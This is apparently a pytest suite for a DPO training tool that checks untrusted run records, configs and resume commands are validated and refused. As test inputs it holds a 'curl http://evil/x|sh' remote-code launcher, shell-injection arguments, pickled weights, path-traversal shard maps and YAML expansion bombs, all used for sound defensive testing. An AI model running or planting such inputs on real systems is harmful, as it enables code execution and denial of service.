"""Records, configs and commands of strangers: bounded, checked when they are read, and never a way around a check."""

from __future__ import annotations

import ast
import functools
import json
import os
import random
import shlex
import shutil
import sys
from pathlib import Path

import pytest
import torch
from safetensors.torch import load_file
from shared.hub import created_on, files_sent
from shared.runs import ROOT, read_record

from utils.errors import UserError
from utils.models.sources import find_model
from utils.report.run_page import make_run_page
from utils.run.bounded import Unreadable
from utils.run.processes import command_to_go_on, launcher_of

sys.path.insert(0, str(ROOT / "benchmarks"))
from records import FILES, mangle_records, use_records

# Every place that has a library load something from a folder or a hub name -> what has looked at that before.
WAYS = {
    "models/loading.py": "a ModelSource: find_model, find_policy or find_reference",
    "merging/weights.py": "the base of a ModelSource",
    "merging/merging.py": "the folder that was just written",
    "planning/work.py": "check_folder, or find_policy",
    "inspection/tokens.py": "check_folder",
    "responses/scorers.py": "check_folder",
    "training/shards.py": "a checkpoint of this run, compared with its manifest",
}
# Where a ModelSource is made: by looking at what is there, or to be looked at by check_source.
SOURCES = {"models/sources.py", "planning/work.py", "models/trained.py"}


@functools.cache
def calls() -> dict[str, set[str]]:
    """Name -> the files under utils/ that call a function or method of it."""
    found: dict[str, set[str]] = {}
    for path in (ROOT / "utils").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "attr", getattr(node.func, "id", ""))
                found.setdefault(name, set()).add(path.relative_to(ROOT / "utils").as_posix())
    return found


def test_every_way_to_a_model_is_known():
    assert calls()["from_pretrained"] == set(WAYS)
    assert calls()["ModelSource"] == SOURCES
    for file, looked_at in WAYS.items():
        if looked_at.startswith("check_folder"):
            assert file in calls()["check_folder"]


def edit(path: Path, **changes) -> None:
    path.write_text(json.dumps(json.loads(path.read_text(encoding="utf-8")) | changes), encoding="utf-8")


def training(model: Path, data: Path, out: Path, *more) -> list:
    argv = ["train", "--model_name_or_path", model, "--dataset_name", data, "--output_dir", out, "--use_lora"]
    return [*argv, "--max_steps", 2, "--save_steps", 1, "--per_device_train_batch_size", 2, *more]


@pytest.fixture(scope="module")
def trained(tiny_model, pairs_file, tmp_path_factory) -> Path:
    import advanced_dpo_script

    folder = tmp_path_factory.mktemp("runs") / "run"
    argv = training(tiny_model, pairs_file, folder, "--dtype", "float32")
    assert advanced_dpo_script.main([str(word) for word in argv]) == 0
    return folder


@pytest.fixture
def run(trained, tmp_path) -> Path:
    return Path(shutil.copytree(trained, tmp_path / "run"))


def pickle_as_weights(base: Path) -> None:
    torch.save(load_file(base / "model.safetensors"), base / "adapter_model.bin")
    edit(base / "config.json", transformers_weights="adapter_model.bin")


def shards_outside(base: Path) -> None:
    names = list(load_file(base / "model.safetensors"))
    shutil.move(base / "model.safetensors", base.parent / "outside.safetensors")
    index = {"metadata": {}, "weight_map": dict.fromkeys(names, "../outside.safetensors")}
    (base / "model.safetensors.index.json").write_text(json.dumps(index))


HOSTILE_BASES = {
    "a kernel": (
        lambda base: edit(base / "config.json", _attn_implementation="x/y"),
        "a kernel that would be downloaded",
    ),
    "a kernel of experts": (lambda base: edit(base / "config.json", experts_implementation="x/y"), "a kernel that"),
    "a pickle": (pickle_as_weights, "transformers_weights is"),
    "shards outside": (shards_outside, "only .safetensors files in the same folder"),
    "a pipe": (lambda base: os.mkfifo(base / "added_tokens.json"), "not a regular file"),
}


@pytest.mark.parametrize("key", ["reference_model", "start"])
@pytest.mark.parametrize("attack", HOSTILE_BASES)
def test_what_a_record_names_is_looked_at_like_a_flag(attack, key, run_script, run, tiny_model, pairs_file, tmp_path):
    base = Path(shutil.copytree(tiny_model, tmp_path / "base"))
    change, said = HOSTILE_BASES[attack]
    change(base)
    record = read_record(run)
    named = record["start"] | {"base": str(base), "tokenizer": str(tiny_model)}
    other = {"reference_model": named} if key == "reference_model" else {"reference_model": None, "start": named}
    if key == "start":  # of an sft run, whose adapter is on another base than the record says now
        shutil.copytree(tiny_model, tmp_path / "own")
        edit(run / "adapter_config.json", base_model_name_or_path=str(base))
    edit(run / "run.json", **other)
    common, few = ["--model_name_or_path", run], ["--max_new_tokens", 2]
    for argv in (
        ["evaluate", *common, "--output_dir", tmp_path / "e"],
        ["compare", *common, "--output_dir", tmp_path / "c", "--num_prompts", 1, *few],
        ["chat", *common, "--compare_with", "reference", "--prompt", "x", *few],
        ["train", "--model_name_or_path", base, "--dataset_name", pairs_file, "--output_dir", tmp_path / "t"],
        ["plan", "--model_name_or_path", base, "--gpu", "H100"],
        ["plan", "--model_name_or_path", tiny_model, "--ref_model_name_or_path", base, "--gpu", "H100"],
        ["data", "--dataset_name", pairs_file, "--model_name_or_path", base],
    )[: 7 if key == "reference_model" else 3]:
        code, out, err = run_script(*argv)
        assert code == 2, (argv[0], out, err)
        assert said in err, (argv[0], err)
        assert "Traceback" not in err


def test_a_pickled_adapter_that_a_record_names_is_refused(run_script, run, tmp_path):
    adapter = tmp_path / "adapter"
    adapter.mkdir()
    shutil.copy(run / "adapter_config.json", adapter)
    torch.save(load_file(run / "adapter_model.safetensors"), adapter / "adapter_model.bin")
    record = read_record(run)
    edit(run / "run.json", reference_model=record["start"] | {"adapter": str(adapter)})
    code, _, err = run_script("evaluate", "--model_name_or_path", run, "--output_dir", tmp_path / "e")
    assert code == 2
    assert "run.json: its reference_model" in err
    assert "only pickled weights (adapter_model.bin)" in err


def test_a_device_in_a_model_folder_is_not_read(tiny_model, tmp_path):
    model = Path(shutil.copytree(tiny_model, tmp_path / "model"))
    (model / "config.json").unlink()
    (model / "config.json").symlink_to("/dev/zero")
    with pytest.raises(UserError, match=r"config\.json"):
        find_model("--model_name_or_path", str(model))


# Records of strangers


@pytest.mark.parametrize("seed", [0, *(pytest.param(seed, marks=pytest.mark.slow) for seed in range(1, 9))])
def test_no_record_ends_in_a_traceback(seed, trained, tmp_path):
    draw, ends = random.Random(seed), {}
    for number in range(12):
        folder = Path(shutil.copytree(trained, tmp_path / f"{number}" / "run"))
        changed = mangle_records(folder, draw)
        for fault in use_records(folder, ends):
            raise AssertionError(f"{changed}: {fault}")
    assert ends["status"] == {0}
    assert 2 in ends["chat"] or 2 in ends["merge"]


def test_a_mangled_file_is_not_what_it_was(trained, tmp_path):
    folder, draw = tmp_path / "run", random.Random(0)
    shutil.copytree(trained, folder)
    before = {name: (folder / name).read_bytes() for name in FILES}
    for _ in range(5):
        mangle_records(folder, draw)
    assert any((folder / name).read_bytes() != content for name, content in before.items())


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"step": "2"}, "step is '2': must be a whole number"),
        ({"metrics": {"held_out": {"loss": [1]}}}, "metrics.held_out.loss is [1]: must be a number"),
        ({"data": {"train_pairs": -1}}, "data.train_pairs is -1"),
        ({"warnings": ["a", 5]}, "warnings[1] is 5: must be text"),
        ({"start": {"adapter": "x"}}, "start has no base"),
        ({"x": json.loads("[" * 90 + "]" * 90)}, "nested more than 64 levels deep"),
    ],
)
def test_a_record_of_other_kinds_is_named_by_its_place(changes, said, run_script, run):
    edit(run / "run.json", **changes)
    code, out, err = run_script("status", run.parent)
    assert code == 0, err
    assert said in " ".join(out.split()), out
    code, _, err = run_script("chat", "--model_name_or_path", run, "--prompt", "x")
    assert code == 2
    assert said in err


@pytest.mark.parametrize("name", ["dtype", "beta"])
def test_a_recorded_setting_is_not_null_where_its_flag_is_not(name, run_script, run, pairs_file):
    edit(run / "run.json", settings=read_record(run)["settings"] | {name: None})
    code, _, err = run_script("evaluate", "--model_name_or_path", run, "--dataset_name", pairs_file)
    assert code == 2, err
    assert f"{run / 'run.json'}: {name} is null: must be " in err
    assert "Traceback" not in err


def test_a_best_checkpoint_of_another_kind_is_passed_over(run_script, run, tiny_model, pairs_file):
    edit(run / "checkpoint-2" / "trainer_state.json", best_model_checkpoint={"a": 1})
    (run / "checkpoint-2" / "manifest.json").unlink()  # its maker could have written one
    edit(run / "run.json", status="interrupted")
    argv = training(tiny_model, pairs_file, run, "--dtype", "float32")
    code, out, err = run_script(*argv, "--resume_from_checkpoint", "auto")
    assert code == 0, err
    assert "trainer_state.json cannot be used: best_model_checkpoint is {'a': 1}: must be text" in out


def test_names_on_charts_turn_no_text_around(run):
    lines = (run / "metrics.jsonl").read_text().splitlines()
    (run / "metrics.jsonl").write_text("\n".join(lines) + '\n{"step": 1e400, "loss": 1}\n{"step": 3, "loss": NaN}\n')
    for mark in "\u202e\u2066\u200f\u061c\x1b":
        edit(run / "run.json", device=f"a{mark}b")
        page = make_run_page(run)
        assert mark not in page
        assert f"a\u2426{ord(mark):0{2 if mark == chr(27) else 4}X}b" in page


# The command of a stranger's record


def command_lines(run_script, run: Path) -> list[str]:
    code, out, err = run_script("status", run)
    assert code == 0, err
    return [line.strip() for line in out.splitlines()]


def test_a_command_is_built_of_our_script_and_known_launchers(run_script, run):
    record = read_record(run)
    for launcher in (["curl", "http://evil/x|sh"], ["accelerate", "launch", "/x/evil.py"], ["torchrun", "--no_python"],
                     ["python", "-c", "import os"], ["accelerate", "launch", "-m", "evil"]):  # fmt: skip
        process = record["process"] | {"launcher": launcher, "script": "/x/evil.py", "processes": 2}
        edit(run / "run.json", status="interrupted", process=process)
        lines = command_lines(run_script, run)
        (command,) = (line for line in lines if "--resume_from_checkpoint auto" in line)
        words = shlex.split(command)
        script = next(word for word in words if word.endswith(".py"))
        assert Path(ROOT, script).resolve() == ROOT / "advanced_dpo_script.py"
        assert words[words.index(script) - 4 : words.index(script)] == ["accelerate", "launch", "--num_processes", "2"]
        assert "evil" not in command
        assert any("names another launcher, which is not shown" in line for line in lines)


@pytest.mark.parametrize(
    ("started", "launcher"),
    [
        ("/bin/python /bin/accelerate launch --cpu -m advanced_dpo train", "accelerate launch --cpu"),
        ("/bin/python /bin/accelerate-launch --cpu --module advanced_dpo", "accelerate launch --cpu"),
        (
            "/bin/python -m accelerate.commands.launch --cpu -m advanced_dpo",
            "python -m accelerate.commands.launch --cpu",
        ),
        ("/bin/python /bin/torchrun --nproc_per_node 1 advanced_dpo_script.py train", "torchrun --nproc_per_node 1"),
        ("/bin/torchrun --no-python dpo-train train", "torchrun"),
        ("timeout 60 python advanced_dpo_script.py train", ""),
        ("bash -c dpo-train", ""),
        ("/bin/python -m pytest", ""),
    ],
)
def test_a_launcher_is_known_by_its_command_line(started, launcher, monkeypatch):
    monkeypatch.delenv("TORCHELASTIC_RUN_ID", raising=False)
    assert launcher_of(started.split()) == launcher.split()
    words = command_to_go_on([], {"processes": 1, "launcher": launcher_of(started.split())})
    assert words.startswith(f"{launcher or 'python'} advanced_dpo_script.py")


@pytest.mark.parametrize("launcher", ["torchrun --nproc_per_node 2", "accelerate launch --num_processes=2"])
def test_a_known_launcher_is_repeated(launcher, run_script, run):
    process = read_record(run)["process"] | {"launcher": launcher.split(), "processes": 2}
    edit(run / "run.json", status="interrupted", process=process)
    assert any(line.startswith(launcher) for line in command_lines(run_script, run))


@pytest.mark.parametrize(
    "flags",
    [
        ["--trust_remote_code"],
        ["--dataset_adapter", "/x/evil.py:f"],
        ["--attn_implementation", "x/kernel"],
        ["--push_to_hub"],
    ],
)
def test_flags_that_run_code_are_marked(flags, run_script, run):
    record = read_record(run)
    edit(run / "run.json", status="interrupted", arguments=[*record["arguments"], *flags])
    lines = command_lines(run_script, run)
    assert (
        f"before you type it: {' '.join(flags)} is part of it, and runs code or sends data that the record names"
        in lines
    )
    assert " ".join(flags) + " is part of it" in make_run_page(run).replace("<code>", "").replace("</code>", "")


@pytest.mark.parametrize("word", ["--nope", "stray; touch x", "--beta=$(x)", "--config=/dev/zero"])
def test_arguments_that_the_script_does_not_take_are_not_shown(word, run_script, run):
    edit(run / "run.json", status="interrupted", arguments=["train", word])
    lines = command_lines(run_script, run)
    assert not any("--resume_from_checkpoint" in line for line in lines)
    assert any(line.startswith("no command is shown: ") for line in lines)
    assert "No command is shown: " in make_run_page(run)


# Configs

LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{former}'] * 9)}]\n"
    for former, name in zip("abcdefghi", "bcdefghij", strict=True)
)
MERGES = "a: &a {x: 1}\n" + "".join(
    f"{name}: &{name} {{<<: [{', '.join([f'*{former}'] * 9)}]}}\n"
    for former, name in zip("abcdefghi", "bcdefghij", strict=True)
)


def bomb(path: Path, kind: str) -> Path:
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    elif kind == "huge":
        with open(path, "wb") as file:
            file.truncate(2**31)
    else:
        nested = "lr_scheduler_kwargs:\n" + "".join(f"  {line}\n" for line in MERGES.splitlines())
        texts = {"laughs": LAUGHS, "merges": MERGES, "nested merges": nested, "deep": "a: " + "[" * 5000}
        path.write_text(texts[kind])
    return path


@pytest.mark.parametrize("kind", ["pipe", "device", "huge", "laughs", "merges", "nested merges", "deep"])
def test_a_config_is_bounded(kind, run_script, tmp_path):
    code, _, err = run_script("train", "--config", bomb(tmp_path / "c.yaml", kind))
    assert code == 2
    assert f"{tmp_path / 'c.yaml'}" in err
    assert len(err.splitlines()) < 4


@pytest.mark.parametrize("kind", ["repeated", "unknown"])
def test_a_config_of_many_keys_is_refused_at_once(kind, run_script, tmp_path):
    keys = [f'"k{number}": 1' for number in range(60_000)] + (['"k1": 2'] if kind == "repeated" else [])
    (tmp_path / "c.json").write_text(f"{{{', '.join(keys)}}}")
    code, _, err = run_script("train", "--config", tmp_path / "c.json")
    assert code == 2
    assert len(err.splitlines()) < 4
    assert "k1 is given twice" in err if kind == "repeated" else "holds 60,000 settings" in err


@pytest.mark.parametrize("kind", ["pipe", "huge", "laughs", "merges"])
def test_the_readme_of_a_data_folder_is_bounded(kind, run_script, tmp_path, pairs_file):
    folder = tmp_path / "data"
    folder.mkdir()
    shutil.copy(pairs_file, folder / "train.jsonl")
    readme = bomb(folder / "README.md", kind)
    if kind in ("laughs", "merges"):
        readme.write_text(f"---\n{readme.read_text()}---\n")
    code, _, err = run_script("data", "--dataset_name", folder)
    assert code == 2
    assert "README.md" in err


@pytest.mark.parametrize("flag", ["accelerator_config", "fsdp_config", "deepspeed"])
def test_a_config_for_a_library_is_bounded(flag, run_script, tiny_model, pairs_file, tmp_path):
    os.mkfifo(tmp_path / "c.json")
    argv = ["--model_name_or_path", tiny_model, "--dataset_name", pairs_file, "--output_dir", tmp_path / "o"]
    code, _, err = run_script("train", *argv, f"--{flag}", tmp_path / "c.json")
    assert code == 2
    assert f"--{flag} {tmp_path / 'c.json'}: is not a regular file" in err


def test_what_is_unreadable_is_no_system_error():
    assert not issubclass(Unreadable, OSError)


# Uploading


def test_a_run_uploads_its_model_alone_in_private_when_it_is_finished(
    hub, run_script, tiny_model, pairs_file, tmp_path
):
    argv = training(tiny_model, pairs_file, tmp_path / "run")
    code, out, err = run_script(*argv, "--push_to_hub", "--hub_model_id", "me/model")
    assert code == 0, err
    assert "uploaded to " in out
    assert {status for _, _, status in hub} == {"finished"}
    assert created_on(hub)["visibility"] == "private"
    sent = files_sent(hub)
    assert {"adapter_config.json", "adapter_model.safetensors", "tokenizer.json"} <= sent
    assert not {
        name for name in sent if "run.json" in name or "/" in name or name.endswith((".bin", ".jsonl", ".html"))
    }
    assert not list((tmp_path / "run").rglob("*.bin"))


@pytest.mark.parametrize("flag", [["--hub_strategy", "all_checkpoints"], ["--hub_always_push"]])
def test_uploads_while_it_trains_are_refused(flag, run_script, tiny_model, pairs_file, tmp_path):
    argv = ["train", "--model_name_or_path", tiny_model, "--dataset_name", pairs_file, "--output_dir", tmp_path / "o"]
    code, _, err = run_script(*argv, "--push_to_hub", *flag)
    assert code == 2
    assert f"{flag[0]}: cannot be set here: with --push_to_hub the model is uploaded once" in err
